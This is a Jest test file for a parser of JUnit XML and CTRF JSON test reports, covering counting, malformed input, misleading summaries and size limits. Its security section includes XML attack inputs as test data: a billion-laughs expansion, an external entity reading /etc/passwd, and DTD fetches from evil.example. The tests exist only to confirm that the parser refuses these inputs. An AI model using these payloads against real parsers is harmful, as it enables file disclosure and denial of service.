import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { readTestReport } from '../../src/analysis/test-report.ts';
import { LIMITS } from '../../src/model/limits.ts';

const counts = (passed: number, failed = 0, skipped = 0) => ({ passed, failed, skipped });
const suite = (attributes: string, inside: string) =>
  `<testsuites><testsuite ${attributes}>${inside}</testsuite></testsuites>`;

const ctrf = (tests: readonly object[], summary: object = {}): string => {
  const of = (status: string) =>
    tests.filter((one) => (one as { status: string }).status === status).length;
  const counted = { tests: tests.length, passed: of('passed'), failed: of('failed') };
  const rest = { pending: of('pending'), skipped: of('skipped'), other: of('other') };
  const results = { tool: { name: 'x' }, summary: { ...counted, ...rest, ...summary }, tests };
  return JSON.stringify({ reportFormat: 'CTRF', results });
};

function value(text: string) {
  const report = readTestReport(text);
  if (!report.ok) throw new Error(report.problems[0]?.message);
  return report.value;
}

function problem(text: string) {
  const report = readTestReport(text);
  expect(report.ok).toBe(false);
  return report.ok ? undefined : report.problems[0];
}

describe('cases are counted', () => {
  test.each([
    {
      why: 'one suite as the root',
      text: '<testsuite name="a.test.ts"><testcase/><testcase/></testsuite>',
      tests: counts(2),
      files: { 'a.test.ts': 2 },
    },
    {
      why: 'failure, error and skipped, each once',
      text: suite(
        'name="a" tests="4" failures="1" errors="1" skipped="1"',
        '<testcase/><testcase><failure>x</failure></testcase><testcase><error/></testcase><testcase><skipped/></testcase>',
      ),
      tests: counts(1, 2, 1),
      files: { a: 4 },
    },
    {
      why: 'a failure that is also skipped failed',
      text: suite('name="a"', '<testcase><skipped/><failure/></testcase>'),
      tests: counts(0, 1),
      files: { a: 1 },
    },
    {
      why: 'pytest counts a case with a failure and an error twice',
      text: suite(
        'name="pytest" tests="2" failures="1" errors="1" skipped="0"',
        '<testcase classname="tests.test_auth"><failure/><error/></testcase>',
      ),
      tests: counts(0, 1),
      files: { 'tests.test_auth': 1 },
    },
    {
      why: 'others count it once',
      text: suite(
        'name="x" tests="1" failures="0" errors="1"',
        '<testcase><failure/><error/></testcase>',
      ),
      tests: counts(0, 1),
      files: { x: 1 },
    },
    {
      why: 'gtest: a disabled case is marked by its status and counted apart',
      text: '<testsuites tests="2" disabled="1"><testsuite name="Pool" tests="2" failures="0" disabled="1" skipped="0" errors="0"><testcase status="run" classname="Pool"/><testcase status="notrun" classname="Pool"/></testsuite></testsuites>',
      tests: counts(1, 0, 1),
      files: { Pool: 2 },
    },
    {
      why: 'PHPUnit: nested suites, each summary counts what is below it',
      text: '<testsuites><testsuite name="all" tests="3"><testsuite name="A" file="tests/ATest.php" tests="2"><testcase/><testcase/></testsuite><testsuite name="B" file="tests/BTest.php" tests="1"><testcase file="tests/Other.php"/></testsuite></testsuite></testsuites>',
      tests: counts(3),
      files: { 'tests/ATest.php': 2, 'tests/Other.php': 1 },
    },
    {
      why: 'an empty attribute claims nothing',
      text: suite('name="a" tests="" skipped=""', '<testcase/>'),
      tests: counts(1),
      files: { a: 1 },
    },
    {
      why: 'the class that looks like a path wins over a suite that does not (vitest, Playwright)',
      text: suite('name="login works"', '<testcase classname="test/login.spec.ts"/>'),
      tests: counts(1),
      files: { 'test/login.spec.ts': 1 },
    },
    {
      why: 'a sentence with a slash is no path',
      text: suite('name="api.test.ts"', '<testcase classname="GET /users answers"/>'),
      tests: counts(1),
      files: { 'api.test.ts': 1 },
    },
    {
      why: 'no name at all',
      text: suite('', '<testcase/>'),
      tests: counts(1),
      files: { '(no name)': 1 },
    },
    {
      why: 'other elements are left alone; a byte order mark and a declaration are allowed',
      text: `\uFEFF<?xml version="1.0" encoding="UTF-8"?>${suite('name="a"', '<properties><property name="failure"/></properties><testcase><system-out><![CDATA[<failure/>]]></system-out><properties><failure/></properties></testcase>')}`,
      tests: counts(1),
      files: { a: 1 },
    },
    {
      why: 'CTRF: every status; another end than pass proves nothing',
      text: ctrf([
        { name: 'a', status: 'passed', filePath: 'a.test.ts' },
        { name: 'b', status: 'failed', filePath: 'a.test.ts' },
        { name: 'c', status: 'other', suite: 'outer' },
        { name: 'd', status: 'skipped', suite: ['outer', 'inner'] },
        { name: 'e', status: 'pending' },
      ]),
      tests: counts(1, 2, 2),
      files: { 'a.test.ts': 2, outer: 1, 'outer > inner': 1, '(no name)': 1 },
    },
  ])('$why', ({ text, tests, files }) => {
    const report = value(text);
    expect(report.tests).toEqual(tests);
    const totals = report.files.map(
      (file) => [file.name, file.passed + file.failed + file.skipped] as const,
    );
    expect(Object.fromEntries(totals)).toEqual(files);
  });

  test('a real report: nested suites of node --test, whose summaries count suites as one', () => {
    const folder = mkdtempSync(join(tmpdir(), 'node-test-'));
    const file = join(folder, 'a.test.mjs');
    writeFileSync(
      file,
      `import { describe, it } from 'node:test';
describe('outer', () => {
  describe('one', () => { it('a', () => {}); it('b', () => {}); it.skip('c') });
  describe('two', () => { it('d', () => { throw new Error('no') }) });
});
it('top', () => {});`,
    );
    const args = ['--test', '--test-reporter=junit', '--test-reporter-destination=stdout', file];
    const env = Object.fromEntries(
      Object.entries(process.env).filter(([name]) => !name.startsWith('NODE_')),
    );
    let text = '';
    try {
      execFileSync(process.execPath, args, { encoding: 'utf8', env });
    } catch (error) {
      text = (error as { stdout: string }).stdout;
    }
    rmSync(folder, { recursive: true });
    expect(value(text).tests).toEqual(counts(3, 1, 1));
  });

  test('law: what was written is what is counted, in any order of suites', () => {
    const result = fc.constantFrom('passed', 'failed', 'skipped');
    const suites = fc.uniqueArray(
      fc.record({
        name: fc.stringMatching(/^[a-z]{1,8}$/),
        results: fc.array(result, { maxLength: 8 }),
      }),
      { selector: ({ name }) => name, maxLength: 6 },
    );
    const element = { passed: '', failed: '<failure/>', skipped: '<skipped/>' } as const;
    const written = (
      list: readonly { name: string; results: readonly (keyof typeof element)[] }[],
    ) =>
      `<testsuites>${list
        .map(({ name, results }) => {
          const cases = results.map((one) => `<testcase>${element[one]}</testcase>`).join('');
          return `<testsuite name="${name}" tests="${results.length}">${cases}</testsuite>`;
        })
        .join('')}</testsuites>`;
    fc.assert(
      fc.property(suites, (list) => {
        const all = list.flatMap(({ results }) => results);
        const of = (name: string) => all.filter((one) => one === name).length;
        const report = value(written(list));
        expect(report.tests).toEqual(counts(of('passed'), of('failed'), of('skipped')));
        expect(value(written(list.toReversed()))).toEqual(report);
      }),
    );
  });
});

describe('what is no report is refused by name', () => {
  test.each([
    ['nothing', '', 'is empty'],
    ['blank lines', ' \n\t', 'is empty'],
    ['plain text', '12 tests passed', 'starts with "1"'],
    ['another root', '<html><testcase/></html>', 'root element is <html>'],
    ['a case as the root', '<testcase/>', 'root element is <testcase>'],
    ['XML that ends early', '<testsuite><testcase>', 'XML is broken'],
    ['XML that is not well formed', '<testsuite><testcase></testsuite>', 'XML is broken'],
    ['JSON that ends early', '{"results":', 'JSON is broken'],
    ['JSON of another kind', '{"numPassedTests": 12}', 'results is missing'],
    [
      'an unknown status',
      ctrf([{ name: 'a', status: 'pass' }]),
      'results.tests[0].status is "pass"',
    ],
  ])('%s', (_, text, message) => {
    expect(problem(text)?.message).toContain(message);
  });

  test('the line is named', () => {
    expect(problem('<testsuite>\n\n<testcase></wrong>')).toMatchObject({ line: 3 });
  });
});

describe('a summary is a claim: the cases decide (C08)', () => {
  test.each([
    [
      '12 of 12 claimed, 1 held',
      suite('name="auth" tests="12" failures="0"', '<testcase/>'),
      'tests="12"',
    ],
    [
      'a failure hidden by the summary',
      suite('name="a" failures="0"', '<testcase><failure/></testcase>'),
      'failures="0"',
    ],
    [
      'an error hidden by the summary',
      suite('name="a" errors="0"', '<testcase><error/></testcase>'),
      'errors="0"',
    ],
    [
      'skipped tests hidden by the summary',
      suite('name="a" skipped="0"', '<testcase><skipped/></testcase>'),
      'skipped="0"',
    ],
    ['a count that is no number', suite('name="a" tests="1e0"', '<testcase/>'), 'tests="1e0"'],
    [
      'the root lies, the suites do not',
      '<testsuites tests="9"><testsuite tests="1"><testcase/></testsuite></testsuites>',
      'tests="9"',
    ],
    [
      'CTRF: more passed than held',
      ctrf([{ name: 'a', status: 'passed' }], { passed: 12 }),
      '12 passed',
    ],
    ['CTRF: failures hidden', ctrf([{ name: 'a', status: 'failed' }], { failed: 0 }), '0 failed'],
    ['CTRF: another total', ctrf([{ name: 'a', status: 'passed' }], { tests: 12 }), '12 tests'],
  ])('%s', (_, text, message) => {
    expect(problem(text)?.message).toContain(message);
  });

  test('cases outside a suite do not count, so they are refused', () => {
    for (const text of [
      '<testsuite><testcase><testcase/></testcase></testsuite>',
      '<testsuite><properties><testcase/></properties></testsuite>',
      '<testsuite><testcase><testsuite><testcase/></testsuite></testcase></testsuite>',
    ])
      expect(problem(text)?.message).toContain('belongs in a suite');
  });

  test('a long suite name is cut in the message', () => {
    const text = suite(`name="${'n'.repeat(500)}" tests="2"`, '<testcase/>');
    expect(problem(text)?.message.length).toBeLessThan(200);
  });
});

describe('bounds come before trust (E04, E05, E06)', () => {
  const laughs = `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>${suite('name="&b;"', '<testcase/>')}`;
  test.each([
    ['a billion laughs', laughs],
    [
      'an external entity',
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><testsuite name="&e;"/>',
    ],
    [
      'an external document type',
      '<!DOCTYPE testsuite SYSTEM "http://evil.example/x.dtd"><testsuite/>',
    ],
    [
      'parameter entities',
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/">%p;]><testsuite/>',
    ],
  ])('%s: no document type', (_, text) => {
    expect(problem(text)?.message).toContain('document type');
  });

  test('an entity without a document type is broken XML; the five of XML itself are fine', () => {
    expect(problem(suite('name="&b;"', '<testcase/>'))?.message).toContain('XML is broken');
    expect(value(suite('name="a&amp;b"', '<testcase/>')).files[0]?.name).toBe('a&b');
  });

  test('exactly as deep as allowed, and one deeper', () => {
    const nested = (depth: number) =>
      `${'<testsuite>'.repeat(depth - 1)}<testcase/>${'</testsuite>'.repeat(depth - 1)}`;
    expect(value(nested(LIMITS.depth)).tests).toEqual(counts(1));
    expect(problem(nested(LIMITS.depth + 1))?.message).toContain(`deeper than ${LIMITS.depth}`);
  });

  test('a million open elements end at the bound, not at the end of memory', () => {
    const started = performance.now();
    expect(problem('<testsuite>'.repeat(1_000_000))?.message).toContain('nested deeper');
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  test('exactly as large as allowed, and one byte larger', () => {
    const padded = (bytes: number) => suite('name="a"', '<testcase/>').padEnd(bytes, '\n');
    expect(value(padded(LIMITS.reportBytes)).tests).toEqual(counts(1));
    expect(problem(padded(LIMITS.reportBytes + 1))?.message).toContain('larger than');
  });

  test('exactly as many files as allowed, and one more', () => {
    const named = (files: number) =>
      suite(
        '',
        Array.from({ length: files }, (_, index) => `<testcase file="${index}"/>`).join(''),
      );
    expect(value(named(LIMITS.reportFiles)).files).toHaveLength(LIMITS.reportFiles);
    expect(problem(named(LIMITS.reportFiles + 1))?.message).toContain('20001 test files');
  });

  test('a name of thousands of letters is cut', () => {
    const name = value(suite(`name="${'n'.repeat(5_000)}"`, '<testcase/>')).files[0]?.name;
    expect(name).toHaveLength(LIMITS.reportName);
  });

  test('names of prototypes are names', () => {
    const text = suite('name="__proto__"', '<testcase/><testcase classname="constructor"/>');
    expect(value(text).files.map(({ name }) => name)).toEqual(['__proto__', 'constructor']);
    expect(({} as Record<string, unknown>)['passed']).toBeUndefined();
  });
});
